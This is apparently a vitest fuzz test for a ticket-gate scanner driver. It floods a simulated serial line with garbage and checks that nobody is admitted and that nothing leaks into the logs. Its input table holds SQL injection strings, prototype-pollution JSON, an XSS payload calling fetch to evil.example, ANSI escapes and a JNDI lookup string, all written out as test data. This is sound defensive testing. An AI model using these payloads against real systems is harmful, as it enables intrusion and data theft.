import { describe, expect, it } from 'vitest';
import { createLog } from '#agent/runtime/log.ts';
import { assert } from '#core/base/fault.ts';
import { LIMITS } from '#core/base/limits.ts';
import { minutes, seconds } from '#core/base/time.ts';
import type { HealthState } from '#core/ports/health.ts';
import type { Scanner } from '#core/ports/scanner.ts';
import { hasControlCharacters } from '#drivers/scanning/code-text.ts';
import { serialScannerDriver } from '#drivers/serial-scanner/serial-scanner-driver.ts';
import type { DeviceLine, SimulatedDevice } from '#drivers/simulation/simulated-device.ts';
import { memoryTransport } from '#drivers/transport/memory.ts';
import { gateWorld } from '../edge-agent/lanes/gate-world.ts';
import { ticketRow } from '../edge-agent/validity/fake-box-office.ts';
import { type Chance, seededChance } from './mutations.ts';

/** Two megabytes of everything that is not a ticket, down the line of a scanner, through the driver, the lane, the check and the ledger. */

const CR = 0x0d;
const BYTES = 2_100_000;

/** A scanner that sends whatever it is told, as the line's own bytes. */
function rawScanner() {
  let line: DeviceLine | undefined;
  const device: SimulatedDevice = {
    class: 'scanner',
    faults: [],
    isOn: () => false,
    setFault: () => undefined,
    connect: (to) => {
      line = to;
      return { receive: () => undefined, closed: () => undefined };
    },
    onChange: () => undefined,
  };
  return { device, send: (bytes: Uint8Array) => line?.write(bytes) };
}

/** A lane behind the production driver. The lane asks for codes before the driver is there, because both live in the same time. */
async function gateOnALine() {
  let onCode: Parameters<Scanner['onCode']>[0] = () => undefined;
  let onFirstByte: () => void = () => undefined;
  const lines: string[] = [];
  const log = createLog('debug', { write: (text: string) => void lines.push(text) });
  const scanner: Scanner = {
    onCode: (listen) => {
      onCode = listen;
    },
    onFirstByte: (listen) => {
      onFirstByte = listen;
    },
  };
  const gate = await gateWorld({ options: { scanner, log } });
  const { device, send } = rawScanner();
  const health: HealthState[] = [];
  const connected = await serialScannerDriver.connect(
    {
      device: 'scanner-1',
      transport: memoryTransport(device),
      clock: gate.time.clock,
      timers: gate.time.timers,
      onHealth: (state) => health.push(state),
    },
    { suffix: 'cr', aimPrefix: false },
  );
  assert(connected.ok, 'the line is there');
  const session = connected.value;
  let delivered = 0;
  session.port.onCode((code) => {
    delivered++;
    onCode(code);
  });
  session.port.onFirstByte(() => onFirstByte());
  return {
    gate,
    lines,
    health,
    counters: () => session.counters(),
    delivered: () => delivered,
    send: async (bytes: Uint8Array) => {
      send(bytes);
      await gate.time.settle();
    },
  };
}

const bytesOf = (text: string): Uint8Array => Buffer.from(text, 'latin1');
const repeated = (text: string, length: number): string => text.repeat(Math.ceil(length / text.length)).slice(0, length);

/** What an attacker prints, or a broken device sends. Each gives the bytes of one frame without its end. */
const GARBAGE: Readonly<Record<string, (chance: Chance) => Uint8Array>> = {
  'bytes of every value': (chance) => Uint8Array.from({ length: 1 + chance(700) }, () => chance(256)),
  'control characters': (chance) => Uint8Array.from({ length: 1 + chance(300) }, () => chance(32)),
  'printable characters': (chance) => Uint8Array.from({ length: 1 + chance(512) }, () => 0x20 + chance(95)),
  digits: (chance) => Uint8Array.from({ length: 1 + chance(30) }, () => 0x30 + chance(10)),
  SQL: (chance) =>
    bytesOf(
      `${["'; DROP TABLE admission; --", "' OR '1'='1' --", '1; ATTACH DATABASE "x.db" AS x; --', "' UNION SELECT publicKey FROM validity --"][chance(4)]}${chance(1e9)}`,
    ),
  'ESC/POS': (chance) => bytesOf(`\x1b@\x1bp\x00\x19\xfa\x1dV\x00${repeated('\x1d(k\x03\x001Q0', chance(400))}`),
  'ECI prefixes': (chance) => bytesOf(`]Q2\\000026${repeated('\\000003', chance(200))}FY1:${chance(1e9)}`),
  'ANSI escapes': (chance) => bytesOf(`\x1b[2J\x1b]0;owned\x07\x1b[31m${repeated('\x1b[1A', chance(300))}`),
  'JSON and prototypes': (chance) => bytesOf(`{"__proto__":{"admin":true},"ticketId":"${chance(1e9)}","constructor":{"prototype":{}}}`),
  'markup and links': (chance) => bytesOf(`<img src=x onerror=alert(${chance(1e9)})>javascript:fetch('http://evil.example/${chance(1e9)}')`),
  'half tickets': (chance) => bytesOf(`F${'YR'[chance(2)]}1:${repeated('0A%$:Z9 ', 100 + chance(60))}`),
  'format strings': (chance) => bytesOf(`%s%n%x${repeated('%p', chance(200))}\${jndi:ldap://x/${chance(1e9)}}`),
};

describe('garbage on the line of a scanner', () => {
  it('lets nobody in, breaks nothing, and is counted', { timeout: 300_000 }, async () => {
    const world = await gateOnALine();
    const one = ticketRow(1);
    await world.gate.publish(one);
    const chance = seededChance(0x9a4b);
    const kinds = Object.values(GARBAGE);
    let sent = 0;
    for (let n = 0; sent < BYTES; n++) {
      const make = kinds[n % kinds.length];
      assert(make !== undefined, 'there is a kind');
      // In runs of one kind a long way, because that is how it comes from a device.
      const run: Uint8Array[] = [];
      for (let frames = 1 + chance(8); frames > 0; frames--) run.push(make(chance), Uint8Array.of(CR));
      // Now and then a frame that never ends: half a minute's worth of the line.
      if (n % 50 === 0) run.push(new Uint8Array(20_000).fill(0x41 + chance(26)), Uint8Array.of(CR));
      const bytes = Buffer.concat(run);
      sent += bytes.length;
      await world.send(bytes);
      // Guests come one after another; a babbling line calms down when it is quiet for a while.
      if (n % 25 === 0) await world.gate.time.advance(seconds(12));
    }
    const { bytesIn, framesIn, garbage } = world.counters();
    expect({ bytesIn, isLarge: sent >= 2_000_000 }).toEqual({ bytesIn: sent, isLarge: true });
    expect(framesIn).toBeGreaterThan(1_000);
    expect(garbage).toBeGreaterThan(1_000);

    // Nothing was let in, and every code that the driver gave to the lane was decided.
    const told = world.gate.told();
    expect(world.gate.hardware.released).toEqual([]);
    expect(new Set(told)).toEqual(new Set(['refuse']));
    expect(told.length).toBe(world.delivered());
    const reasons = new Set(world.gate.events().flatMap((event) => (event.t === 'scan' ? event.d.reasons : [])));
    expect([...reasons].sort()).toEqual(['not-a-ticket', 'payment-code', 'pick-up-code', 'unreadable'].sort());
    expect(world.health.some(({ kind, reasons: why }) => kind === 'degraded' && why.some((reason) => reason === 'babbling'))).toBe(true);

    // Nothing of it stands in a log or an event, and no control character reaches a terminal by either.
    const written = world.lines.join('') + JSON.stringify(world.gate.events());
    for (const piece of ['DROP TABLE', '__proto__', 'onerror', 'jndi', 'owned', '\\000003', 'FY1:']) expect(written).not.toContain(piece);
    expect(hasControlCharacters(Buffer.from(written.replaceAll('\n', '')))).toBe(false);

    // And the next guest is served.
    await world.gate.time.advance(minutes(1));
    await world.send(bytesOf(`${world.gate.code(one)}\r`));
    expect(world.gate.view()).toMatchObject({ state: 'verdict', verdict: { kind: 'enter' } });
    expect(world.gate.hardware.released).toHaveLength(1);
  });

  it('of every single byte, alone and at every length of a frame, decides nothing', { timeout: 300_000 }, async () => {
    const world = await gateOnALine();
    let frames = 0;
    for (let byte = 0; byte < 256; byte++) {
      if (byte === CR) continue;
      for (const length of [1, 12, 153, 171, LIMITS.scanner.frameBytesMax, LIMITS.scanner.frameBytesMax + 1, 4_096]) {
        await world.send(Buffer.concat([new Uint8Array(length).fill(byte), Uint8Array.of(CR)]));
        frames++;
      }
      await world.gate.time.advance(seconds(15));
    }
    expect(frames).toBe(255 * 7);
    expect(world.gate.hardware.released).toEqual([]);
    expect(new Set(world.gate.told())).toEqual(new Set(['refuse']));
    expect(world.gate.view().state).toBe('ready');
  });
});
